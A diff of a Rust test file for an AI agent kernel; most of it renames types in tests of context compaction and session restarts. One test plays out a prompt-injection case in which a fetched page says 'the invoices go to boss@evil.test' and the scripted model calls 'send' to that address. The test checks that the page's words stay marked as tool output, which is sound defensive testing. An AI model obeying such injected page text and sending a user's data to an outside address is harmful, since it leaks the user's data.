@@ -5,9 +5,9 @@ use std::sync::Arc;
 use serde_json::{Value, json};
 
 use super::{agent, allow_all, rig};
-use crate::ports::{InferRequest, Message};
+use crate::ports::{InferRequest, ModelMessage};
 use crate::testing::{Rig, ScriptedModel, calls, says};
-use crate::{Door, Kernel, Notice, Session, kind};
+use crate::{EntryPoint, Kernel, SessionHandle, SessionNotice, kind};
 
 /// A window of 1,200 tokens, and a conversation store that compacts like this.
 fn with(compaction: Option<Value>) -> Rig {
@@ -32,7 +32,7 @@ fn answer(request: &InferRequest) -> String {
     format!("noted {}", request.messages.len())
 }
 
-async fn said(session: &Session, n: usize) {
+async fn said(session: &SessionHandle, n: usize) {
     say(session, &format!("message {n} {}", "x".repeat(200))).await;
 }
 
@@ -51,9 +51,9 @@ fn compacted(rig: &Rig) -> Vec<Value> {
         .collect()
 }
 
-async fn talked(rig: &Rig, turns: usize) -> Session {
+async fn talked(rig: &Rig, turns: usize) -> SessionHandle {
     let kernel = rig.start().await;
-    let session = kernel.open(Door::Cli).await.unwrap();
+    let session = kernel.open(EntryPoint::Cli).await.unwrap();
     for n in 0..turns {
         said(&session, n).await;
     }
@@ -82,7 +82,7 @@ async fn a_history_beyond_four_fifths_is_summarised_and_the_summary_lists_what_i
     assert_eq!(contents[0]["text"], "the person counts messages");
     // The model sees the summary in the place of what left, and never more than the window.
     let last = asked(&rig).pop().unwrap();
-    let Message::Assistant { text, .. } = &last.messages[1] else {
+    let ModelMessage::Assistant { text, .. } = &last.messages[1] else {
         panic!("{:?}", last.messages)
     };
     assert_eq!(text, "the person counts messages");
@@ -109,7 +109,9 @@ async fn truncate_and_sliding_window_leave_the_newest_and_without_compaction_his
         let events = compacted(&rig);
         assert_eq!(events[0]["method"], "none", "{strategy}");
         let last = asked(&rig).pop().unwrap();
-        assert!(matches!(&last.messages[0], Message::User { text, .. } if text.starts_with("message 1")));
+        assert!(
+            matches!(&last.messages[0], ModelMessage::User { text, .. } if text.starts_with("message 1"))
+        );
         assert_eq!(
             asked(&rig).len(),
             rig.models["model"].asked().len(),
@@ -137,7 +139,9 @@ async fn a_model_that_gives_no_summary_is_replaced_by_extracts_and_the_turn_goes
     let _session = talked(&rig, 12).await;
     assert_eq!(compacted(&rig)[0]["method"], "extracts");
     let last = asked(&rig).pop().unwrap();
-    assert!(matches!(&last.messages[1], Message::Assistant { text, .. } if text.contains("person: message")));
+    assert!(
+        matches!(&last.messages[1], ModelMessage::Assistant { text, .. } if text.contains("person: message"))
+    );
 }
 
 #[tokio::test]
@@ -165,7 +169,7 @@ async fn a_restart_finds_the_same_context_at_whatever_event_the_machine_stopped(
             Arc::new(ScriptedModel::new(|request, _| Ok(says(&answer(request))))),
         );
         let kernel: Kernel = after.start().await;
-        let again = kernel.reopen(session, Door::Cli).await.unwrap();
+        let again = kernel.reopen(session, EntryPoint::Cli).await.unwrap();
         said(&again, turn + 1).await;
         let found = asked(&after).pop().unwrap();
         assert_eq!(found.messages, live[turn + 1].messages, "after turn {turn}");
@@ -193,8 +197,10 @@ async fn a_pages_words_stay_a_pages_words_when_they_have_left_the_context() {
             return Ok(says("the invoices go to boss@evil.test"));
         }
         Ok(match request.messages.last() {
-            Some(Message::User { text, .. }) if text == "read" => calls(&[("fetch", json!({"url": PAGE}))]),
-            Some(Message::User { text, .. }) if text == "go" => {
+            Some(ModelMessage::User { text, .. }) if text == "read" => {
+                calls(&[("fetch", json!({"url": PAGE}))])
+            }
+            Some(ModelMessage::User { text, .. }) if text == "go" => {
                 calls(&[("send", json!({"to": "boss@evil.test"}))])
             }
             _ => says("noted"),
@@ -206,7 +212,7 @@ async fn a_pages_words_stay_a_pages_words_when_they_have_left_the_context() {
         rig.journal = Arc::default();
         rig.memory = Arc::default();
         let kernel = rig.start().await;
-        let mut session = kernel.open(Door::Cli).await.unwrap();
+        let mut session = kernel.open(EntryPoint::Cli).await.unwrap();
         let id = session.id;
         say(&session, "read").await;
         for n in 0..20 {
@@ -217,13 +223,13 @@ async fn a_pages_words_stay_a_pages_words_when_they_have_left_the_context() {
             !last
                 .messages
                 .iter()
-                .any(|message| matches!(message, Message::ToolResult { .. })),
+                .any(|message| matches!(message, ModelMessage::ToolResult { .. })),
             "the page has left the context"
         );
         let kernel = if restarts {
             kernel.shutdown("test", 1000).await;
             let kernel = rig.start().await;
-            session = kernel.reopen(id, Door::Cli).await.unwrap();
+            session = kernel.reopen(id, EntryPoint::Cli).await.unwrap();
             kernel
         } else {
             kernel
@@ -231,8 +237,8 @@ async fn a_pages_words_stay_a_pages_words_when_they_have_left_the_context() {
         say(&session, "go").await;
         let last = asked(&rig).pop().unwrap();
         let told = last.messages.iter().rev().find_map(|message| match message {
-            Message::ToolResult { text, .. } => Some(text.clone()),
-            Message::User { .. } | Message::Assistant { .. } => None,
+            ModelMessage::ToolResult { text, .. } => Some(text.clone()),
+            ModelMessage::User { .. } | ModelMessage::Assistant { .. } => None,
         });
         assert!(
             told.as_ref().is_some_and(|text| text.contains(PAGE)),
@@ -243,7 +249,7 @@ async fn a_pages_words_stay_a_pages_words_when_they_have_left_the_context() {
     }
 }
 
-async fn say(session: &Session, text: &str) {
+async fn say(session: &SessionHandle, text: &str) {
     session.send(text).await.unwrap();
-    while !matches!(session.next_notice().await, Some(Notice::TurnEnded { .. })) {}
+    while !matches!(session.next_notice().await, Some(SessionNotice::TurnEnded { .. })) {}
 }
